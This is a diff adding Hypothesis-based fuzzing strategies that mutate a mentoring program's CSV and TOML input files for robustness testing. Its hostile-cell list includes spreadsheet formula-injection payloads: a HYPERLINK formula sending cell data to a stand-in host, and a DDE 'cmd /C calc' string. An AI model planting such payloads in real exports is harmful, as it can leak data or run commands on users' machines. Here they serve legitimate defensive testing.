@@ -184,3 +184,215 @@ def score_problems(
     return ScoreProblem(
         scores, np.array(mentor_cap, dtype=np.int64), np.array(mentee_cap, dtype=np.int64)
     )
+
+
+# --- fuzzing: mutated exports (tests/fuzz.py) ------------------------------------------------
+
+#: Cell values a form tool, a tired coordinator or an attacker may put in any cell.
+HOSTILE_CELLS = (
+    "",
+    " ",
+    '"',
+    'x"y',
+    '"unclosed',
+    "a,b",
+    "a;b",
+    "a\tb",
+    "line\nbreak",
+    "=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-1+A1",
+    "@SUM(A1)",
+    "\tTAB",
+    "-3",
+    "0",
+    "1e19",
+    "12345678901234567890123",
+    "-1",
+    "nan",
+    "inf",
+    "1e39",
+    "\u200b",
+    "\ufeffE0001",
+    "Ｅ０００１",
+    "Е0001",
+    "e0001",
+    "E0001",
+    "M001",
+    "qq",
+    "xx|en",
+    "America/" + "x" * 300,
+    "Mars/Olympus",
+    "x" * 2000,
+    "mon 25:00-26:00",
+    "lun 12h-13h",
+    "yes",
+    "peut-être",
+    "\x00",
+    "é" * 10,
+)
+#: Values a program.toml key may be given.
+HOSTILE_TOML = (
+    '"3"',
+    "true",
+    '"yes"',
+    "nan",
+    "inf",
+    "-inf",
+    "1e39",
+    "-1",
+    "0",
+    "100000000000000000000000000000",
+    "[1, 2]",
+    "{ a = 1 }",
+    '"optimal"',
+    '"groups"',
+    '"stable"',
+    '"fair"',
+    '"suggest"',
+    "0.5",
+    "2",
+    "1979-05-27",
+)
+TOML_KEYS = (
+    "[program]\nseed",
+    "[program]\nmin_score",
+    "[program]\nmethod",
+    "[program]\nsession_minutes",
+    "[program]\nmin_experience_gap",
+    "[program]\ndistance_scale_km",
+    "[criteria.specialty]\nweight",
+    "[criteria.region]\nweight",
+    "[criteria.language]\nhard",
+    "[criteria.availability]\nhard",
+    "[suggest]\ntop",
+    "[stable]\nunranked",
+    "[program]\nunknown_key",
+)
+SPECIAL_BYTES = (b'"', b",", b";", b"\t", b"\n", b"\r", b"\x00", b"\xff", b"\xef\xbb\xbf", b"=")
+
+
+@dataclass(frozen=True)
+class FuzzCase:
+    """Mutated programme files (name -> bytes; ``None`` = a folder in the file's place) and
+    the command's extra options."""
+
+    files: dict[str, bytes | None]
+    options: tuple[str, ...]
+    mutations: tuple[str, ...]
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig", "replace"), newline="")))
+
+
+def _csv_data(rows: list[list[str]]) -> bytes:
+    import csv
+    import io
+
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
+    return buffer.getvalue().encode("utf-8")
+
+
+@st.composite
+def _mutation(draw: st.DrawFn, files: dict[str, bytes | None]) -> str:
+    """Apply one mutation to ``files`` in place; return what it did (for the report)."""
+    names = sorted(n for n, d in files.items() if d is not None)
+    kind = draw(st.sampled_from(("byte", "cell", "row", "column", "toml", "structure")))
+    csvs = [n for n in names if n.endswith(".csv")]
+    if kind == "byte" and names:
+        name = draw(st.sampled_from(names))
+        data = files[name] or b""
+        at = draw(st.integers(0, len(data)))
+        action = draw(st.sampled_from(("insert", "delete", "replace")))
+        piece = draw(st.sampled_from(SPECIAL_BYTES) | st.binary(min_size=1, max_size=4))
+        if action == "insert":
+            data = data[:at] + piece + data[at:]
+        elif action == "delete":
+            data = data[:at] + data[at + draw(st.integers(1, 64)) :]
+        else:
+            data = data[:at] + piece + data[at + len(piece) :]
+        files[name] = data
+        return f"byte {action} in {name} at {at}"
+    if kind in ("cell", "row", "column") and csvs:
+        name = draw(st.sampled_from(csvs))
+        rows = _csv_rows(files[name] or b"")
+        if not rows:
+            return "nothing"
+        if kind == "cell":
+            r = draw(st.integers(0, len(rows) - 1))
+            if not rows[r]:
+                return "nothing"
+            c = draw(st.integers(0, len(rows[r]) - 1))
+            rows[r][c] = draw(st.sampled_from(HOSTILE_CELLS))
+            what = f"cell {name} row {r + 1} column {c + 1}"
+        elif kind == "row":
+            r = draw(st.integers(1, max(len(rows) - 1, 1))) if len(rows) > 1 else 0
+            action = draw(st.sampled_from(("duplicate", "delete", "truncate", "extend")))
+            if action == "duplicate":
+                rows.insert(r, list(rows[r]))
+            elif action == "delete":
+                del rows[r]
+            elif action == "truncate":
+                rows[r] = rows[r][: draw(st.integers(0, len(rows[r])))]
+            else:
+                rows[r] = [*rows[r], draw(st.sampled_from(HOSTILE_CELLS))]
+            what = f"row {action} {name} row {r + 1}"
+        else:
+            action = draw(st.sampled_from(("add", "drop", "rename")))
+            c = draw(st.integers(0, len(rows[0]) - 1)) if rows[0] else 0
+            header = draw(st.sampled_from(("@note", "=x", "id", "capacity", "langues", "")))
+            for k, row in enumerate(rows):
+                if action == "add":
+                    row.append(header if k == 0 else draw(st.sampled_from(HOSTILE_CELLS)))
+                elif action == "drop" and c < len(row):
+                    del row[c]
+                elif action == "rename" and k == 0 and c < len(row):
+                    row[c] = header
+            what = f"column {action} {name} {c + 1}"
+        files[name] = _csv_data(rows)
+        return what
+    if kind == "toml":
+        key = draw(st.sampled_from(TOML_KEYS))
+        value = draw(st.sampled_from(HOSTILE_TOML))
+        files["program.toml"] = f"{key} = {value}\n".encode()
+        return f"toml {key.split(chr(10))[1]} = {value}"
+    action = draw(st.sampled_from(("folder", "delete", "empty", "swap", "bom", "cp1252")))
+    name = draw(st.sampled_from(sorted(files)))
+    if action == "folder":
+        files[name] = None
+    elif action == "delete":
+        files.pop(name)
+    elif action == "empty":
+        files[name] = b""
+    elif action == "swap" and "mentors.csv" in files and "mentees.csv" in files:
+        files["mentors.csv"], files["mentees.csv"] = files["mentees.csv"], files["mentors.csv"]
+    elif action == "bom" and files.get(name):
+        files[name] = b"\xef\xbb\xbf" + (files[name] or b"")
+    elif action == "cp1252" and files.get(name):
+        files[name] = (files[name] or b"").decode("utf-8", "replace").encode("cp1252", "replace")
+    return f"structure {action} {name}"
+
+
+@st.composite
+def fuzz_cases(draw: st.DrawFn, base: dict[str, bytes]) -> FuzzCase:
+    """A programme folder's files after one to three mutations, and options for the run."""
+    files: dict[str, bytes | None] = dict(base)
+    done = tuple(draw(_mutation(files)) for _ in range(draw(st.integers(1, 3))))
+    options: list[str] = []
+    if draw(st.booleans()):
+        options += ["--method", draw(st.sampled_from(("optimal", "fair", "stable", "suggest")))]
+    if draw(st.integers(0, 9)) == 0:
+        options += [f"--seed={draw(st.sampled_from(('-1', '0', '7', str(2**64))))}"]
+    if draw(st.integers(0, 9)) == 0:
+        options += [f"--min-score={draw(st.sampled_from(('nan', '2', '0.3', '-0.1')))}"]
+    if draw(st.integers(0, 4)) == 0:
+        options += ["--excel"]
+    if draw(st.integers(0, 4)) == 0:
+        options += ["--delimiter", ";"]
+    return FuzzCase(files, tuple(options), done)
